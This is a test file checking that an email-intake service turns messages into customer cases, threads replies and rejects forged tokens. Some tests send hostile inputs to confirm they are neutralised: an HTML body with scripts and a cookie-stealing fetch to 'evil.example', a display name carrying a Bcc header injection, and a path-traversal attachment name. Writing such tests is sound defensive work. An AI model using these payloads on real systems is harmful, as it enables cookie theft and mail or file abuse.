import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import nodemailer, { type Transporter } from 'nodemailer';
import pino from 'pino';
import type { Case } from '../../../contracts/cases.js';
import type { MailInConfig } from '../../config.js';
import {
  createArea,
  createStaff,
  createTestApp,
  setupOrganisation,
  type Session,
  type TestApp,
} from '../../../../test/support/app.js';
import { startSmtpIntake, type SmtpIntake } from './index.js';

const INBOX = 'feedback@verity.test';
const mailInConfig = (over: Partial<MailInConfig> = {}): MailInConfig => ({
  smtpHost: '127.0.0.1',
  addresses: [INBOX, 'complaints@verity.test'],
  maxBytes: 256 * 1024,
  imapPollSeconds: 60,
  ...over,
});

// A 1×1 PNG: an attachment whose type the attachments module detects from its content.
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

describe('email in over SMTP', () => {
  let t: TestApp;
  let admin: Session;
  let smtp: SmtpIntake;
  let areaId: string;
  let transport: Transporter;
  let staff: Session;

  beforeAll(async () => {
    t = await createTestApp({ config: { mailIn: mailInConfig() } });
    admin = await setupOrganisation(t);
    areaId = (await createArea(admin, { name: 'Front desk' })).id;
    staff = (await createStaff(t, admin, { role: 'supervisor', areaIds: [areaId] })).session;
    smtp = await startSmtpIntake(t.services.mailIn, {
      port: 0,
      host: '127.0.0.1',
      maxBytes: t.config.mailIn.maxBytes,
      log: pino({ level: 'silent' }),
    });
    transport = nodemailer.createTransport({
      host: '127.0.0.1',
      port: smtp.port,
      secure: false,
      ignoreTLS: true,
    });
  });
  afterAll(async () => {
    transport?.close();
    await smtp?.close();
    await t?.close();
  });

  const caseCount = async () =>
    Number((await t.database.query<{ n: string }>('SELECT count(*) AS n FROM cases'))[0]!.n);
  const inbound = async (messageId: string) =>
    (
      await t.database.query<{
        outcome: string;
        case_id: string;
        token_problem: string | null;
        html: string | null;
      }>('SELECT outcome, case_id, token_problem, html FROM inbound_messages WHERE message_key = $1', [
        messageId,
      ])
    )[0];
  const getCase = async (id: string) => {
    const res = await staff.get(`/api/v1/cases/${id}`);
    expect(res.statusCode, res.body).toBe(200);
    return res.json<Case>();
  };
  const timeline = async (id: string) =>
    (await staff.get(`/api/v1/cases/${id}/timeline`)).json<{
      items: { type: string; body: string; data: Record<string, unknown> }[];
    }>().items;

  /** Sends a first email from a customer and returns its case and the acknowledgement's Reply-To. */
  async function newCaseByEmail(from: string, subject: string) {
    const messageId = `<${subject.replace(/\W+/g, '-')}-${Date.now()}@customer.example>`;
    await transport.sendMail({ from, to: INBOX, subject, text: `${subject}: the details.`, messageId });
    const row = await inbound(messageId);
    expect(row?.outcome).toBe('created');
    await t.worker.drain();
    const ack = t.mailer.last(/<([^>]+)>/.exec(from)![1])!;
    return { caseId: row!.case_id, ack, messageId };
  }

  it('turns a new email into a case on the email channel, acknowledged with a reply address and tracking link', async () => {
    const before = await caseCount();
    const messageId = '<first-complaint@customer.example>';
    const info = await transport.sendMail({
      from: '"Jane Citizen" <Jane@Customer.example>',
      to: INBOX,
      subject: 'Cold room, no heating',
      text: 'The heater in room 12 did not work for three nights.\n\nJane',
      messageId,
    });
    expect(info.accepted).toEqual([INBOX]);
    expect(await caseCount()).toBe(before + 1);
    const row = await inbound(messageId);
    expect(row).toMatchObject({ outcome: 'created', token_problem: null, html: null });
    const c = await getCase(row!.case_id);
    expect(c).toMatchObject({
      channel: 'email',
      kind: 'complaint',
      subject: 'Cold room, no heating',
      description: 'The heater in room 12 did not work for three nights.\n\nJane',
      area: { id: areaId },
      customer: { name: 'Jane Citizen', email: 'jane@customer.example' },
    });

    await t.worker.drain();
    const ack = t.mailer.last('jane@customer.example')!;
    expect(ack.subject).toContain(c.reference);
    expect(ack.replyTo).toMatch(/^feedback\+[a-z2-7]{49}@verity\.test$/);
    expect(ack.text).toMatch(/Follow your case: http:\/\/verity\.test\/track\?t=\S+/);
    expect(ack.html).toMatch(/<a href="http:\/\/verity\.test\/track\?t=[^"]+">/);
    expect(ack.text).toContain('You can reply to this email');
    // The tracking link opens this case for the customer.
    const token = decodeURIComponent(/track\?t=(\S+)/.exec(ack.text)![1]!);
    expect(t.services.cases.customerView).toBeTypeOf('function');
    const view = await t.services.cases.customerView(token);
    expect(view?.reference).toBe(c.reference);
  });

  it('threads a reply to the Reply-To address into its case (quoted history trimmed), and creates no case', async () => {
    const { caseId, ack } = await newCaseByEmail('Sam <sam@customer.example>', 'Lost property');
    const before = await caseCount();
    const replyId = '<reply-lost-property@customer.example>';
    await transport.sendMail({
      from: 'Sam <sam@customer.example>',
      to: ack.replyTo,
      subject: `Re: ${ack.subject}`,
      inReplyTo: ack.messageId,
      text: `It was a blue umbrella.\n\nOn Mon, 23 Nov 2026 at 10:00, Verity <${INBOX}> wrote:\n> ${ack.text.split('\n').join('\n> ')}\n`,
      messageId: replyId,
    });
    expect(await caseCount()).toBe(before);
    expect(await inbound(replyId)).toMatchObject({
      outcome: 'threaded',
      case_id: caseId,
      token_problem: null,
    });
    const messages = (await timeline(caseId)).filter((e) => e.type === 'message_in');
    expect(messages).toHaveLength(1);
    expect(messages[0]!.body).toBe('It was a blue umbrella.');
  });

  it('does not thread a reply whose token was altered: a new case instead', async () => {
    const { caseId, ack } = await newCaseByEmail('Ola <ola@customer.example>', 'Noise at night');
    const [local, domain] = ack.replyTo!.split('@') as [string, string];
    const last = local.at(-1) === 'a' ? 'b' : 'a';
    const forged = `${local.slice(0, -1)}${last}@${domain}`;
    const before = await caseCount();
    const id = '<forged-token@customer.example>';
    await transport.sendMail({
      from: 'ola@customer.example',
      to: forged,
      subject: 'Re: noise',
      text: 'More.',
      messageId: id,
    });
    expect(await caseCount()).toBe(before + 1);
    const row = await inbound(id);
    expect(row).toMatchObject({ outcome: 'created', token_problem: 'invalid' });
    expect(row!.case_id).not.toBe(caseId);
    expect((await timeline(caseId)).some((e) => e.type === 'message_in')).toBe(false);
  });

  it('does not thread a genuine reply address used from another sender: a new case instead', async () => {
    const { caseId, ack } = await newCaseByEmail('Kim <kim@customer.example>', 'Overcharged');
    const before = await caseCount();
    const id = '<other-sender@elsewhere.example>';
    await transport.sendMail({
      from: 'Mallory <mallory@elsewhere.example>',
      to: ack.replyTo,
      subject: 'Re: Overcharged',
      text: 'Please refund me instead.',
      messageId: id,
    });
    expect(await caseCount()).toBe(before + 1);
    const row = await inbound(id);
    expect(row).toMatchObject({ outcome: 'created', token_problem: 'invalid' });
    expect(row!.case_id).not.toBe(caseId);
    const other = await getCase(row!.case_id);
    expect(other.customer.email).toBe('mallory@elsewhere.example');
    expect((await timeline(caseId)).some((e) => e.type === 'message_in')).toBe(false);
  });

  it('receives the same message once, however often it is delivered', async () => {
    const before = await caseCount();
    const mail = {
      from: 'twice@customer.example',
      to: INBOX,
      subject: 'Sent twice',
      text: 'My mail server retried.',
      messageId: '<same-message@customer.example>',
    };
    const first = await transport.sendMail(mail);
    const second = await transport.sendMail(mail);
    expect(first.accepted).toEqual([INBOX]);
    expect(second.accepted).toEqual([INBOX]);
    expect(await caseCount()).toBe(before + 1);
    // Without a Message-ID, the same sender, date, subject and body are the same message.
    const raw = [
      'From: nomid@customer.example',
      `To: ${INBOX}`,
      'Date: Mon, 23 Nov 2026 10:00:00 +0000',
      'Subject: No Message-ID',
      '',
      'Twice, no id.',
      '',
    ].join('\r\n');
    const envelope = { from: 'nomid@customer.example', to: [INBOX] };
    await transport.sendMail({ envelope, raw });
    await transport.sendMail({ envelope, raw });
    expect(await caseCount()).toBe(before + 2);
  });

  it('keeps HTML-only email sanitised: no scripts, event handlers, styles or remote images', async () => {
    const id = '<hostile-html@customer.example>';
    await transport.sendMail({
      from: 'html@customer.example',
      to: INBOX,
      subject: 'HTML only',
      messageId: id,
      html:
        '<html><head><style>body{background:url(https://tracker.example/bg.png)}</style>' +
        '<script>alert("head")</script></head><body onload="steal()">' +
        '<p style="background:url(https://tracker.example/p.png)">The <b>lift</b> is broken.</p>' +
        '<img src="https://tracker.example/pixel.gif" alt="logo" onerror="alert(1)">' +
        '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">' +
        '<a href="javascript:alert(2)" onclick="alert(3)">click</a>' +
        '<svg><script>alert(4)</script></svg><iframe src="https://evil.example/"></iframe></body></html>',
    });
    const row = (await inbound(id))!;
    expect(row.outcome).toBe('created');
    const html = row.html!;
    expect(html).toContain('<b>lift</b>');
    for (const bad of [
      '<script',
      'alert',
      'onerror',
      'onload',
      'onclick',
      'style',
      'url(',
      'tracker.example',
      'evil.example',
      'javascript:',
      '<iframe',
      '<svg',
    ])
      expect(html).not.toContain(bad);
    expect(html).toContain('[image blocked: logo]');
    const c = await getCase(row.case_id);
    expect(c.description).toContain('The lift is broken.');
    expect(c.description).not.toMatch(/alert|steal|script|tracker\.example/);
  });

  it('prefers the text part over the HTML part', async () => {
    const id = '<both-parts@customer.example>';
    await transport.sendMail({
      from: 'both@customer.example',
      to: INBOX,
      subject: 'Both parts',
      messageId: id,
      text: 'The plain words.',
      html: '<p>The <i>rich</i> words.</p>',
    });
    const row = (await inbound(id))!;
    expect((await getCase(row.case_id)).description).toBe('The plain words.');
    expect(row.html).toBe('<p>The <i>rich</i> words.</p>');
  });

  it('makes a header injection in the display name harmless', async () => {
    const name = 'a\r\nBcc: x@y.example';
    const raw = [
      `From: =?UTF-8?B?${Buffer.from(name).toString('base64')}?= <inject@customer.example>`,
      `To: ${INBOX}`,
      'Subject: =?UTF-8?B?' + Buffer.from('Hi\r\nBcc: z@y.example').toString('base64') + '?=',
      'Message-ID: <header-injection@customer.example>',
      '',
      'Hello.',
      '',
    ].join('\r\n');
    await transport.sendMail({ envelope: { from: 'inject@customer.example', to: [INBOX] }, raw });
    const row = (await inbound('<header-injection@customer.example>'))!;
    const c = await getCase(row.case_id);
    expect(c.customer.name).toBe('a Bcc: x@y.example');
    expect(c.subject).toBe('Hi Bcc: z@y.example');
    await t.worker.drain();
    const sent = t.mailer.sent.filter((m) => JSON.stringify(m).includes('y.example'));
    // The acknowledgement goes to the sender alone, with no header of ours carrying the name.
    expect(sent.length).toBeGreaterThan(0);
    for (const m of sent) {
      expect(m.to).toBe('inject@customer.example');
      expect(m.headers ?? {}).toEqual({});
      expect(m.subject).not.toMatch(/[\r\n]/);
    }
  });

  it('refuses other recipients at RCPT and messages over the size limit', async () => {
    await expect(
      transport.sendMail({ from: 'a@customer.example', to: 'someone@verity.test', subject: 'x', text: 'x' }),
    ).rejects.toMatchObject({ responseCode: 550 });
    await expect(
      transport.sendMail({
        from: 'a@customer.example',
        to: 'feedback@other.example',
        subject: 'x',
        text: 'x',
      }),
    ).rejects.toMatchObject({ responseCode: 550 });
    const before = await caseCount();
    await expect(
      transport.sendMail({
        from: 'a@customer.example',
        to: INBOX,
        subject: 'Too big',
        text: 'x'.repeat(t.config.mailIn.maxBytes + 10),
      }),
    ).rejects.toMatchObject({ responseCode: 552 });
    expect(await caseCount()).toBe(before);
    // The second configured address works too.
    const ok = await transport.sendMail({
      from: 'a@customer.example',
      to: 'Complaints@Verity.test',
      subject: 'y',
      text: 'y',
    });
    expect(ok.accepted).toHaveLength(1);
  });

  it('sends no acknowledgement to an automatic reply', async () => {
    const id = '<auto-reply@customer.example>';
    const sentBefore = t.mailer.sent.length;
    await transport.sendMail({
      from: 'robot@customer.example',
      to: INBOX,
      subject: 'Out of office',
      text: 'I am away.',
      messageId: id,
      headers: { 'Auto-Submitted': 'auto-replied' },
    });
    expect((await inbound(id))?.outcome).toBe('created');
    await t.worker.drain();
    expect(t.mailer.sent.slice(sentBefore).some((m) => m.to === 'robot@customer.example')).toBe(false);
  });

  it('keeps attached files on the case through the attachments module', async () => {
    const id = '<with-attachment@customer.example>';
    await transport.sendMail({
      from: 'files@customer.example',
      to: INBOX,
      subject: 'Photo of the damage',
      text: 'See the photo.',
      messageId: id,
      attachments: [{ filename: '../../etc/damage.png', content: PNG, contentType: 'image/png' }],
    });
    const row = (await inbound(id))!;
    const res = await staff.get(`/api/v1/cases/${row.case_id}/attachments`);
    expect(res.statusCode, res.body).toBe(200);
    const items = res.json<{ items: { name: string; contentType: string; addedBy: { kind: string } }[] }>()
      .items;
    expect(items).toHaveLength(1);
    expect(items[0]!.contentType).toBe('image/png');
    expect(items[0]!.name).not.toContain('/');
    expect(items[0]!.addedBy.kind).toBe('customer');
  });

  it('makes a reply to a closed case a new case that names the old one', async () => {
    const { caseId, ack } = await newCaseByEmail('Pat <pat@customer.example>', 'Parking fee');
    const c = await getCase(caseId);
    const closed = await staff.post(`/api/v1/cases/${caseId}/transitions`, {
      version: c.version,
      to: 'closed',
      outcome: 'withdrawn',
      reason: 'The customer withdrew it by phone.',
    });
    expect(closed.statusCode, closed.body).toBe(200);
    const id = '<reply-to-closed@customer.example>';
    await transport.sendMail({
      from: 'pat@customer.example',
      to: ack.replyTo,
      subject: 'Re: Parking fee',
      text: 'Actually, not resolved.',
      messageId: id,
    });
    const row = (await inbound(id))!;
    expect(row).toMatchObject({ outcome: 'created', token_problem: null });
    expect(row.case_id).not.toBe(caseId);
    expect((await getCase(row.case_id)).description).toBe(
      `(A reply about case ${c.reference}, which is closed.)\n\nActually, not resolved.`,
    );
  });

  // Last: it moves the clock a year on (sessions expire).
  it('does not thread a reply once its token has expired', async () => {
    const { ack } = await newCaseByEmail('Lee <lee@customer.example>', 'Late checkout');
    t.clock.advance(366 * 86_400_000);
    const id = '<expired-token@customer.example>';
    await transport.sendMail({
      from: 'lee@customer.example',
      to: ack.replyTo,
      subject: 'Re',
      text: 'Hello?',
      messageId: id,
    });
    expect(await inbound(id)).toMatchObject({ outcome: 'created', token_problem: 'expired' });
  });
});
